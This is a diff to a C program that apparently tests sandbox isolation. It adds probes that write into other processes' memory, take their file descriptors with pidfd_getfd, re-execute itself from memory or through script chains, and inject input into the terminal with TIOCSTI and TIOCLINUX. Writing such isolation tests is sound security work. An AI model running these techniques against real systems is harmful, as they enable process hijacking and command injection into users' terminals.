@@ -4,8 +4,10 @@
  * here harms the host where it works: what would be done next is not done.
  */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <net/if.h>
 #include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
@@ -14,13 +16,17 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
+#include <sys/uio.h>
 #include <sys/un.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -230,6 +236,13 @@ static int look_at_host(void)
     return reads(path);
 }
 
+/* By netlink: is there more than lo? */
+static int links(void)
+{
+    struct if_nameindex *list = if_nameindex();
+    return list && list[0].if_index && list[1].if_index;
+}
+
 static int open_fds(void)
 {
     for (int fd = 3; fd < 4096; fd++)
@@ -238,10 +251,183 @@ static int open_fds(void)
     return 0;
 }
 
+/* ---- processes that are being started ---- */
+
+static int named(const char *pid, const char *name)
+{
+    char path[64], comm[32] = "";
+    snprintf(path, sizeof path, "/proc/%s/comm", pid);
+    int fd = open(path, O_RDONLY);
+    ssize_t got = fd < 0 ? -1 : read(fd, comm, sizeof comm - 1);
+    close(fd);
+    return got > 0 && strncmp(comm, name, strlen(name)) == 0;
+}
+
+/* Whether its memory is that of the command by now, which lives here anyway, or is gone. */
+static int has_executed(int pid)
+{
+    char path[64], program[4096] = "";
+    snprintf(path, sizeof path, "/proc/%d/exe", pid);
+    ssize_t n = readlink(path, program, sizeof program - 1);
+    return n < 0 ? errno == ENOENT || errno == ESRCH
+                 : n >= 7 && strcmp(program + n - 7, "/attack") == 0;
+}
+
+/* Ways into another process, for which the kernel asks what it asks for ptrace(2); to be traced itself
+ * would keep it from being reaped. `address`: where it might have memory of the caller's. */
+static int break_into(int pid, void *address)
+{
+    char path[64], byte = 'X';
+    struct iovec from = {&byte, 1}, to = {address, 1};
+    int in = 0;
+    snprintf(path, sizeof path, "/proc/%d/mem", pid);
+    int memory = open(path, O_RDWR);
+    if (memory >= 0) {
+        in |= address ? pwrite(memory, &byte, 1, (off_t)(intptr_t)address) == 1 : 1;
+        close(memory);
+    }
+    if (address)
+        in |= process_vm_writev(pid, &from, 1, &to, 1, 0) == 1;
+    int pidfd = (int)syscall(434 /* pidfd_open */, pid, 0);
+    for (int fd = 0; pidfd >= 0 && fd < 16; fd++) {
+        int stolen = (int)syscall(438 /* pidfd_getfd */, pidfd, fd, 0);
+        in |= stolen >= 0 && !address;
+        close(stolen);
+    }
+    close(pidfd);
+    return in;
+}
+
+static volatile sig_atomic_t told_to_stop;
+
+static void stop(int signal)
+{
+    (void)signal;
+    told_to_stop = 1;
+}
+
+/* Until SIGTERM; what has executed the command ("attack") is left alone. */
+static int break_into_joiners(void)
+{
+    int in = 0, tries = 0;
+    signal(SIGTERM, stop);
+    puts("ready");
+    fflush(stdout);
+    while (!told_to_stop) {
+        DIR *proc = opendir("/proc");
+        for (struct dirent *entry; (entry = readdir(proc));) {
+            int pid = atoi(entry->d_name);
+            if (pid <= 1 || pid == getpid() || named(entry->d_name, "attack"))
+                continue;
+            tries++;
+            if (break_into(pid, NULL) && !has_executed(pid))
+                in++;
+        }
+        closedir(proc);
+    }
+    printf("%d tries\n", tries);
+    return in > 0;
+}
+
+/* The argument: a process, and an address in it; its children are tried. */
+static int break_into_children(void)
+{
+    unsigned long address = 0;
+    int parent = 0, in = 0, tries = 0;
+    char path[64], list[4096];
+    if (sscanf(argument, "%d:%lu", &parent, &address) != 2)
+        exit(2);
+    signal(SIGTERM, stop);
+    puts("ready");
+    fflush(stdout);
+    snprintf(path, sizeof path, "/proc/%d/task/%d/children", parent, parent);
+    while (!told_to_stop) {
+        int fd = open(path, O_RDONLY);
+        ssize_t got = read(fd, list, sizeof list - 1);
+        close(fd);
+        list[got > 0 ? got : 0] = 0;
+        for (char *at = list, *end; (parent = (int)strtol(at, &end, 10)) > 0; at = end) {
+            char pid[16];
+            snprintf(pid, sizeof pid, "%d", parent);
+            if (parent == getpid() || (!address && named(pid, "attack")))
+                continue;
+            tries++;
+            if (break_into(parent, (void *)address))
+                in += address || !has_executed(parent);
+        }
+    }
+    printf("%d tries\n", tries);
+    return in > 0;
+}
+
+/* ---- other ways to execute ---- */
+
+/* Itself, from memory, with the argument as the name of what is tried then. */
+static int through_memory(void)
+{
+    char bytes[65536];
+    int from = open("/attack", O_RDONLY), fd = memfd_create("attack", 0);
+    for (ssize_t got; (got = read(from, bytes, sizeof bytes)) > 0;)
+        if (write(fd, bytes, (size_t)got) != got)
+            return 0;
+    char *const args[] = {"attack", (char *)(uintptr_t)argument, NULL}, *const none[] = {NULL};
+    syscall(SYS_execveat, fd, "", args, none, AT_EMPTY_PATH);
+    return 0;
+}
+
+static void script(const char *path, const char *line)
+{
+    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0755);
+    if (dprintf(fd, "#!%s\n", line) < 0)
+        exit(2);
+    close(fd);
+}
+
+/* The same by a chain of scripts, the first of which is named by its fd. */
+static int through_scripts(void)
+{
+    char line[256];
+    snprintf(line, sizeof line, "/attack %s", argument);
+    script("/tmp/1", line);
+    script("/tmp/2", "/tmp/1");
+    script("/tmp/3", "/tmp/2");
+    snprintf(line, sizeof line, "/proc/self/fd/%d", open("/tmp/3", O_RDONLY));
+    char *const args[] = {line, NULL}, *const none[] = {NULL};
+    execve(line, args, none);
+    return 0;
+}
+
+/* ---- the terminal at stdin ---- */
+
+/* For whoever reads from it next. Of the request the kernel looks at the lower half alone. */
+static int type_into_terminal(void)
+{
+    const unsigned long requests[] = {0x5412 /* TIOCSTI */, 0x5412 | 1ul << 32, 0x5412 | 1ul << 63};
+    int worked = 0;
+    for (size_t i = 0; i < sizeof requests / sizeof *requests; i++)
+        for (const char *at = argument; *at; at++)
+            worked |= syscall(SYS_ioctl, 0, requests[i], at) == 0;
+    return worked;
+}
+
+/* Of a console, a selection is pasted. */
+static int paste_into_terminal(void)
+{
+    char selection[] = {3 /* TIOCL_PASTESEL */, 0};
+    return ioctl(0, 0x541C /* TIOCLINUX */, selection) == 0;
+}
+
 static const struct {
     const char *name;
     int (*run)(void);
 } attacks[] = {
+    {"break_into_joiners", break_into_joiners},
+    {"break_into_children", break_into_children},
+    {"through_memory", through_memory},
+    {"through_scripts", through_scripts},
+    {"links", links},
+    {"type_into_terminal", type_into_terminal},
+    {"paste_into_terminal", paste_into_terminal},
     {"chroot_twice", chroot_twice},
     {"dots", dots},
     {"root_of_pid_1", root_of_pid_1},
